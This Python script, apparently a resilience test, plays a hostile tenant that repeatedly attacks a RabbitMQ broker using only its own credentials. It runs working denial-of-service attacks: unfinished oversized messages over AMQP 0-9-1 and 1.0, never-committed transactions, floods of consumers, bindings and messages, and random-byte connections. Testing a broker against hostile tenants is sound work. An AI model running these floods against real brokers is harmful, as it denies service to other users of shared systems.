"""Attacks on a broker by a hostile environment that has only its card.

The program repeats an attack until it is killed.

Usage: python hostile.py ATTACK FOLDER. FOLDER has the files of an environment's /run/netspace. The program prints a
line when it begins. Whenever the broker ends its connection, it prints another line and begins again.
"""

from __future__ import annotations

import contextlib
import itertools
import json
import os
import socket
import ssl
import struct
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pika
from pika.adapters.blocking_connection import BlockingChannel
from pika.frame import Body, Header, Method
from pika.spec import Basic, BasicProperties, Queue

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))  # it runs by itself, in an environment's namespace

from support.links import amqp1

FRAME = 131_072 - 8


class Inside:
    """The values that the environment gets from its card."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.card = json.loads((folder / "environment.json").read_text())
        self.broker = self.card["broker"]
        peers = self.card["peers"]
        peer = next((one for one in peers if "replies" in one), peers[0])
        self.exchange = peer["exchange"]
        self.replies = peer.get("replies")

    def tls(self) -> ssl.SSLContext:
        told = self.broker["tls"]
        context = ssl.create_default_context(cafile=self.folder / Path(told["ca_file"]).name)
        context.load_cert_chain(self.folder / Path(told["certificate_file"]).name)
        return context

    def secured(self) -> ssl.SSLSocket:
        plain = socket.create_connection((self.broker["host"], self.broker["port"]), 30)
        return self.tls().wrap_socket(plain, server_hostname=self.broker["tls"]["server_name"])

    @contextlib.contextmanager
    def channel(self) -> Iterator[BlockingChannel]:
        options = pika.SSLOptions(self.tls(), self.broker["tls"]["server_name"])
        where = pika.ConnectionParameters(
            self.broker["host"],
            self.broker["port"],
            self.broker["vhost"],
            pika.credentials.ExternalCredentials(),
            ssl_options=options,
            heartbeat=0,
            socket_timeout=30,
        )
        connection = pika.BlockingConnection(where)
        try:
            yield connection.channel()
        finally:
            with contextlib.suppress(Exception):
                connection.close()


def send(channel: BlockingChannel, *frames: Method | Header | Body) -> None:
    """Send frames unchecked, and notice if the broker ends the connection."""
    channel.connection._impl._output_marshaled_frames([frame.marshal() for frame in frames])
    channel.connection.process_data_events(0)


def transaction(inside: Inside) -> None:
    """Send messages in a transaction, and never commit it."""
    with inside.channel() as channel:
        channel.tx_select()
        while True:
            channel.basic_publish(inside.exchange, "", bytes(FRAME))
            channel.connection.process_data_events(0)


def unfinished(inside: Inside) -> None:
    """Begin messages and never end them, each as large as RabbitMQ 4.3 permits (4.0 has no limit)."""
    with inside.channel() as channel:
        numbers = [channel.channel_number, *(channel.connection.channel().channel_number for _ in range(31))]
        for number in numbers:
            begun = Method(number, Basic.Publish(exchange=inside.exchange))
            send(channel, begun, Header(number, 1 << 29, BasicProperties()))
        for number in itertools.cycle(numbers):
            send(channel, Body(number, bytes(FRAME)))


def unfinished_amqp_1(inside: Inside) -> None:
    """Begin many messages over AMQP 1.0 and never end them."""
    with contextlib.closing(inside.secured()) as stream:
        client = amqp1.Client(stream, inside.broker["vhost"])
        for number in range(250):
            handle = client.sender(f"/exchanges/{inside.exchange}")
            for _ in range(7):
                fields = [handle, number, struct.pack(">I", number), 0, True, True]
                client._send(amqp1.TRANSFER, fields, bytes(FRAME - 100))
        while stream.recv(4096):
            pass


def consumers(inside: Inside) -> None:
    """Make as many consumers as possible, repeatedly."""
    with contextlib.closing(inside.secured()) as stream:
        client = amqp1.Client(stream, inside.broker["vhost"])
        while True:
            client.receiver(f"/queues/{inside.card['mailbox']}")


def bindings(inside: Inside) -> None:
    """Make bindings for answers, with the longest possible names. Over AMQP 0-9-1 the broker refuses arguments."""
    assert inside.replies is not None, "it asks nobody"
    with inside.channel() as channel:
        for number in itertools.count():
            bind = Queue.Bind(queue=inside.replies["queue"], exchange=inside.replies["exchange"], nowait=True)
            bind.routing_key = str(number).rjust(255, "x")
            send(channel, Method(channel.channel_number, bind))


def messages(inside: Inside) -> None:
    """Send messages as fast as the broker reads them, without waiting for confirms."""
    with inside.channel() as channel:
        while True:
            channel.basic_publish(inside.exchange, "", bytes(FRAME))
            channel.connection.process_data_events(0)


def noise(inside: Inside) -> None:
    """Open connections, and send bytes that are not valid in the broker's protocols."""
    with contextlib.ExitStack() as stack:
        for _ in range(32):
            plain = socket.create_connection((inside.broker["host"], inside.broker["port"]), 1)
            stack.enter_context(plain).sendall(os.urandom(4096))


ATTACKS = {attack.__name__: attack for attack in
           (transaction, unfinished, unfinished_amqp_1, consumers, bindings, messages, noise)}  # fmt: skip


def main() -> None:
    """Attack until this program is killed."""
    attack, inside = ATTACKS[sys.argv[1]], Inside(Path(sys.argv[2]))
    print("begins", flush=True)
    while True:
        try:
            attack(inside)
            said = "ended"
        except Exception as err:
            said = f"{type(err).__name__}: {err}"
        print(said[:200], flush=True)
        time.sleep(0.01)


if __name__ == "__main__":
    main()
